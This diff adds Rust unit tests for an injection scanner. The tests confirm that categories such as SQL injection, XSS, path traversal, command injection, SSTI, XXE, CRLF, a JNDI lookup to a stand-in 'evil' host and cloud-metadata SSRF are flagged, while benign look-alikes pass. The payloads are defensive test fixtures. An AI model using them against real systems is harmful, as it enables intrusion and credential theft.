@@ -1,0 +1,110 @@
+//! Unit tests: every rule set compiles, and each category catches a plain
+//! attack and lets its benign look-alike through. The labelled corpus is in
+//! `tests/corpus.rs`.
+
+use super::*;
+
+fn scan(value: &str) -> Option<Category> {
+    Scanner::new(Level::Medium, Categories::ALL)
+        .scan(value, Field::default())
+        .map(|f| f.category)
+}
+
+#[test]
+fn every_rule_set_compiles() {
+    assert!(sql::compiled());
+    assert!(xss::compiled());
+    assert!(shell::compiled());
+    assert!(template::compiled());
+    assert!(structure::compiled());
+}
+
+#[test]
+fn attacks_are_found_in_their_category() {
+    let cases = [
+        ("' OR '1'='1", Category::Sqli),
+        ("1 UNION/**/SELECT password FROM users", Category::Sqli),
+        ("<img src=x onerror=alert(1)>", Category::Xss),
+        ("../../etc/passwd", Category::Traversal),
+        ("; cat /etc/passwd", Category::Cmd),
+        ("{{7*7}}", Category::Ssti),
+        (r#"{"$ne": null}"#, Category::Nosql),
+        ("*)(uid=*))(|(uid=*", Category::Ldap),
+        (
+            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>"#,
+            Category::Xxe,
+        ),
+        ("%0d%0aSet-Cookie: a=b", Category::Crlf),
+        ("${${lower:j}ndi:ldap://evil/a}", Category::Jndi),
+    ];
+    for (value, category) in cases {
+        assert_eq!(scan(value), Some(category), "{value}");
+    }
+}
+
+#[test]
+fn benign_look_alikes_pass() {
+    for value in [
+        "O'Brien",
+        "select a plan from the menu",
+        "rock & roll",
+        "I'll sleep on it; or maybe not",
+        "a < b and c > d",
+        "Hello {name}",
+        "50% off",
+        "price: $5",
+        "user@example.com",
+        "日本語のテキスト",
+        r#"{"size": "M", "qty": 2}"#,
+        "line one\nline two",
+    ] {
+        assert_eq!(scan(value), None, "{value}");
+    }
+}
+
+#[test]
+fn ssrf_applies_only_to_url_fields() {
+    let scanner = Scanner::new(Level::Medium, Categories::ALL);
+    let url = Field {
+        url_like: true,
+        ..Field::default()
+    };
+    let hit = scanner.scan("http://169.254.169.254/latest/meta-data/", url);
+    assert_eq!(hit.map(|f| f.category), Some(Category::Ssrf));
+    assert_eq!(
+        scanner.scan("http://169.254.169.254/latest/meta-data/", Field::default()),
+        None
+    );
+    assert_eq!(scanner.scan("https://example.com/a?b=c", url), None);
+}
+
+#[test]
+fn keys_are_checked_for_operators_only() {
+    let scanner = Scanner::new(Level::Medium, Categories::ALL);
+    let key = Field {
+        is_key: true,
+        ..Field::default()
+    };
+    assert_eq!(scanner.scan("$where", key).map(|f| f.category), Some(Category::Nosql));
+    assert_eq!(
+        scanner.scan("user[$ne]", key).map(|f| f.category),
+        Some(Category::Nosql)
+    );
+    assert_eq!(scanner.scan("<script>", key), None);
+    assert_eq!(scanner.scan("price$", key), None);
+}
+
+#[test]
+fn disabled_categories_stay_silent() {
+    let only_xss = Scanner::new(Level::Medium, Categories::NONE.with(Category::Xss));
+    assert_eq!(only_xss.scan("' OR '1'='1", Field::default()), None);
+    assert!(only_xss.scan("<script>alert(1)</script>", Field::default()).is_some());
+}
+
+#[test]
+fn levels_widen_the_net() {
+    let probe = "<b class=x>bold</b>";
+    let at = |level| Scanner::new(level, Categories::ALL).scan(probe, Field::default());
+    assert_eq!(at(Level::Medium), None);
+    assert_eq!(at(Level::High).map(|f| f.category), Some(Category::Xss));
+}
